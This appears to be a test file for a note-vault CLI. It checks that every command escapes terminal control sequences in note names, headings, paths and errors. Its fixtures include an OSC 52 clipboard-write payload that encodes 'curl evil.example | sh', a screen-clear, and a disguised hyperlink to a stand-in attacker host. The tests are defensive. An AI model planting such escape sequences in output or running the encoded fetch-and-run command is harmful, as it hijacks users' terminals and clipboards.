/**
 * Every byte the CLI writes goes through one sanitizer: note text (names, headings, paths, error
 * text) can never drive the reader's terminal, whatever the command. JSON keeps the exact strings.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { cli } from "../support/run-cli-capture";

const CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const CLEAR = "\u001b[2J";
const LINK = "\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\";
const C1 = "\u009b31m";
const HOSTILE_NAME = `veRL${CLIPBOARD}${CLEAR}${LINK}${C1}`;

/** Raw C0 controls other than line feed and tab, DEL, C1 controls, and the bidi overrides, as code points. */
function rawControls(text: string): number[] {
	return [...text].map((c) => c.codePointAt(0)!).filter((code) => (code < 0x20 && code !== 0x0a && code !== 0x09) || (code >= 0x7f && code <= 0x9f) || [0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069].includes(code));
}

let root: string;
let vault: string;
beforeAll(() => {
	root = mkdtempSync(join(tmpdir(), "atlas-tty-"));
	vault = join(root, "vault");
	mkdirSync(join(vault, "Frameworks"), { recursive: true });
	writeFileSync(join(vault, "Frameworks", "veRL.md"), `---\ntags: [framework]\nstage: rl\nname: ${JSON.stringify(HOSTILE_NAME)}\nbased_on: ${JSON.stringify(`Parent${CLEAR}`)}\n---\n\n2025-07-02 14:01:48 Wednesday 发布${CLEAR} https://github.com/volcengine/verl\n`);
	writeFileSync(join(root, "outline.md"), `# 强化学习${CLIPBOARD}\n\n- veRL${CLEAR} https://github.com/volcengine/verl\n- OpenRLHF${LINK}\n`);
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

function expectSafe(run: { out: string; err: string }): void {
	expect(rawControls(run.out)).toEqual([]);
	expect(rawControls(run.err)).toEqual([]);
}

describe("atlas query", () => {
	it("shows a hostile name's escape sequences as text instead of sending them", async () => {
		const run = await cli(["query", vault, "stage:rl"]);
		expectSafe(run);
		expect(run.out).toContain("veRL\\x1B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1B[2J\\x1B]8;;https://evil.example/\\x1B\\click");
		expect(run.out).toContain("\\u009B31m");
	});

	it("keeps the exact strings in --json", async () => {
		const run = await cli(["query", vault, "stage:rl", "--json"]);
		expectSafe(run);
		const [entry] = JSON.parse(run.out).entries;
		expect(entry.name).toBe(HOSTILE_NAME);
		expect(entry.basedOn).toBe(`Parent${CLEAR}`);
	});

	it("sanitizes its error message, which quotes the query", async () => {
		const run = await cli(["query", vault, `stage:${CLEAR}x`]);
		expectSafe(run);
		expect(run.err).toContain("\\x1B[2J");
	});
});

describe("atlas import", () => {
	it("echoes outline headings and items as text", async () => {
		const run = await cli(["import", join(root, "outline.md"), "--out", join(root, "out"), "--dry-run"]);
		expectSafe(run);
		expect(run.out).toContain("\\x1B]52;c;");
	});

	it("and in --json keeps them exact", async () => {
		const run = await cli(["import", join(root, "outline.md"), "--out", join(root, "out-json"), "--dry-run", "--json"]);
		expectSafe(run);
		expect(JSON.stringify(JSON.parse(run.out))).toContain(JSON.stringify(CLIPBOARD).slice(1, -1));
	});
});

describe("every other command", () => {
	it.each([
		["index", () => ["index", vault]],
		["index --json", () => ["index", vault, "--json"]],
		["export md", () => ["export", vault, "--format", "md"]],
		["export html", () => ["export", vault, "--format", "html"]],
		["export json", () => ["export", vault, "--format", "json"]],
		["new (name in the error)", () => ["new", vault, "--name", `x${CLEAR}`, "--stage", `rl${CLIPBOARD}`, "--repo", `ftp://${CLEAR}`]],
		["add-source on a missing note", () => ["add-source", join(vault, `missing${CLEAR}.md`), "--url", "https://example.org", "--title", "t"]],
		["unknown command", () => [`zap${CLEAR}`]],
		["unknown option", () => ["index", vault, `--zap${CLIPBOARD}`]],
	])("%s", async (_, argv) => {
		expectSafe(await cli(argv()));
	});

	it("export json stays parseable and exact", async () => {
		const run = await cli(["export", vault, "--format", "json"]);
		expect(JSON.parse(run.out).stages.flatMap((s: { entries: { name: string }[] }) => s.entries)[0].name).toBe(HOSTILE_NAME);
	});
});
